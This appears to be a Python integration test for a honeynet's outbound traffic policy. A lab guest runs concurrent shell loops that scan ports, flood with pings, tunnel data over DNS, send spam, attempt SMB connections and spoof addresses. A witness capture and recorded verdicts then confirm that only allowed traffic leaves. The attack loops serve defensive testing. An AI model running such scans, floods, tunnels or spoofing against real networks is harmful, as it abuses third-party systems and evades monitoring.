#!/usr/bin/python3
# SPDX-License-Identifier: ISC
# needs: root uml image:busybox tool:sshpass tool:ssh tool:tshark tool:tcpdump timeout:300
"""A guest scans, floods, tunnels, spams and spoofs, all at once: what an
independent witness outside sees is exactly what the policy lets out, and exactly
what the evidence says has left. SKEP_MINUTE: for how many seconds (60 is the
minute of its name)."""
import os
import re
import sys
import time

from honeynet import Net, equal, eventually, main, true, two

SECONDS = int(os.environ.get("SKEP_MINUTE", "25"))
TCP, ICMP, NAMES = 7, 3, 4
POLICY = f"""{{tcp: {TCP}/hour, udp: 40/hour, icmp: {ICMP}/hour}}
  per-destination: {{tcp: 2/hour}}
  fan-out: 30/hour
  dns: {{queries: 12/minute, names: {NAMES}/hour, entropy: 3.6, label-length: 30, types: [A, AAAA]}}
  budget: {{honeypot: {{bytes: 4M/hour, packets: 20000/hour}}}}
  fence: [203.0.113.200/29]
  rules:
    - {{name: spam, do: sinkhole, protocol: tcp, ports: [25, 587], sink: smtp}}
    - {{name: worms, do: reset, protocol: tcp, ports: [139, 445]}}"""
net = Net(two("minute", outbound=POLICY), "minute")
state = {}

# Each is a loop that goes on until its time is over.
ATTACKS = {
    "scan": "i=0; while t; do i=$((i+1)); nc -w 1 203.0.113.$((i % 190 + 1)) $((20 + i % 7)) </dev/null & [ $((i % 8)) = 0 ] && wait; done",
    "one target": "while t; do nc -w 1 203.0.113.80 80 </dev/null; done",
    "fenced": "while t; do nc -w 1 203.0.113.201 80 </dev/null; done",
    "worm": "while t; do nc -w 1 203.0.113.9 445 </dev/null; nc -w 1 192.0.2.12 445 </dev/null; done",
    "flood": "i=0; while t; do i=$((i+1)); ping -c 20 -i 0.1 -s 1000 -W 1 203.0.113.$((i % 9 + 1)) >/dev/null; done",
    "tunnel": "while t; do n=$(head -c 20 /dev/urandom | sha1sum | cut -c1-40); timeout 1 nslookup -type=a $n.t.example.com 203.0.113.53; "
              "timeout 1 nslookup -type=a a$((RANDOM % 900)).example.com 203.0.113.53; done >/dev/null 2>&1",
    "spam": "while t; do (printf 'EHLO x\\r\\nMAIL FROM:<a@example.net>\\r\\nQUIT\\r\\n'; sleep 1) | nc -w 2 203.0.113.25 25 >/dev/null; done",
    "spoof": "ip addr add 192.0.2.99/24 dev eth0; while t; do ping -c 1 -W 1 -I 192.0.2.99 203.0.113.5 >/dev/null; "
             "ip neigh flush dev eth0; done; ip addr del 192.0.2.99/24 dev eth0",
}


def test_up():
    """two guests, a policy with a limit of each kind"""
    net.up()
    true(eventually(lambda: "root" in net.ssh("192.0.2.11", "id -un", check=False)[1], 20), "no ssh")
    state["witness"] = net.lab_start("tcpdump", "-i", "any", "-n", "-l", "-Q", "in", "--immediate-mode", "ip and src net 192.0.2.0/24")
    state["server"] = net.lab_start("sh", "-c", "cd /tmp && exec python3 -m http.server --bind 203.0.113.80 80")
    time.sleep(1)


def test_attack():
    """everything at once"""
    text = f"end=$(($(date +%s) + {SECONDS})); t() {{ [ $(date +%s) -lt $end ]; }}\n"
    text += "".join(f"( {body} ) </dev/null >/dev/null 2>&1 &\n" for body in ATTACKS.values()) + "wait; echo over\n"
    _, out = net.ssh("192.0.2.11", text, timeout=SECONDS + 120)
    true("over" in out, out)
    time.sleep(2)


def seen():
    """(SYNs, pings, questions, others) that came out, by the witness."""
    w = state["witness"]
    w.terminate()
    out, _ = w.communicate(timeout=20)
    syn, ping, names, wrong = set(), set(), [], []
    for line in out.splitlines():
        m = re.search(r" IP (\S+) > (\S+): (.*)", line)
        if not m:
            continue
        src, dst, rest = m.groups()
        if not src.startswith("192.0.2.11") or "192.0.2.12" in dst:
            wrong.append(line)
        elif "Flags [S]" in rest:
            syn.add((src, dst))
        elif "echo request" in rest:
            ping.add((dst, re.search(r"id (\d+)", rest).group(1)))
        elif dst.endswith(".53"):
            names.append(re.search(r" A+\? (\S+?)\.? ", rest + " ").group(1) if "?" in rest else rest)
        elif re.search(r"\.(25|587|139|445)$", dst) or dst.startswith("203.0.113.20"):
            wrong.append(line)
    return syn, ping, names, wrong


def test_witness():
    """the witness outside saw what the policy lets out, not one more"""
    syn, ping, names, wrong = state["seen"] = seen()
    print(f"# {len(syn)} connections, {len(ping)} pings, {len(names)} questions for {len(set(names))} names left in {SECONDS} s")
    equal(wrong, [], "what must never leave")
    equal(len(syn), TCP, f"connections that left: {sorted(syn)}")
    most = max((sum(1 for s in syn if s[1].rsplit('.', 1)[0] == d) for d in {s[1].rsplit('.', 1)[0] for s in syn}), default=0)
    true(most <= 2, f"{most} connections with one destination")
    equal(len(ping), ICMP, f"pings that left: {sorted(ping)}")
    true(len({n.lower() for n in names}) <= NAMES, f"names that left: {sorted(set(names))}")
    true(not any(re.fullmatch(r"[0-9a-f]{40}\..*", n) for n in names), f"a tunnel's name left: {names}")


def test_evidence():
    """the evidence says the same: what left, what was played, and why the rest did not"""
    syn, ping, names, _ = state["seen"]
    first = "tcp.flags.syn==1 && tcp.flags.ack==0"
    tries = net.recorded("ip.src==192.0.2.11", first)
    count = {}
    for f in tries:
        count[(f[3]["verdict"], f[3]["reason"])] = count.get((f[3]["verdict"], f[3]["reason"]), 0) + 1
    print("# SYNs: " + ", ".join(f"{v} {r} {n}" for (v, r), n in sorted(count.items())))
    left = {f[2] for f in tries if f[3]["verdict"] == "forward"}
    equal(left, {d.rsplit(".", 1)[0] for _, d in syn}, "destinations of connections that left")
    true(count.get(("drop", "fenced"), 0) > 3, "nothing was fenced")
    true(count.get(("drop", "limit-tcp"), 0) + count.get(("drop", "limit-fan-out"), 0) > 20, "the scan was not stopped by a limit")
    true(count.get(("drop", "limit-destination"), 0) + count.get(("drop", "limit-tcp"), 0) > 5, "nor the one target")
    true(count.get(("reset", "rule"), 0) > 3, "no worm was refused")
    true(count.get(("sinkhole", "rule"), 0) > 3, "no mail was played")
    asked = net.recorded("ip.src==192.0.2.11", "udp.dstport==53", "!icmp")
    equal(sum(1 for f in asked if f[3]["verdict"] == "forward"), len(names), "questions that left")
    true(any(f[3]["reason"] == "dns-tunnel" for f in asked), "no tunnel was found")
    spoofed = net.recorded("ip.src==192.0.2.99 || arp.src.proto_ipv4==192.0.2.99")
    true(len(spoofed) > 3 and all(f[3]["verdict"] == "drop" for f in spoofed), f"spoofed frames: {spoofed[:3]}")
    equal(len(ping), ICMP, "pings")


if __name__ == "__main__":
    try:
        code = main([test_up, test_attack, test_witness, test_evidence])
    finally:
        net.end()
    sys.exit(code)
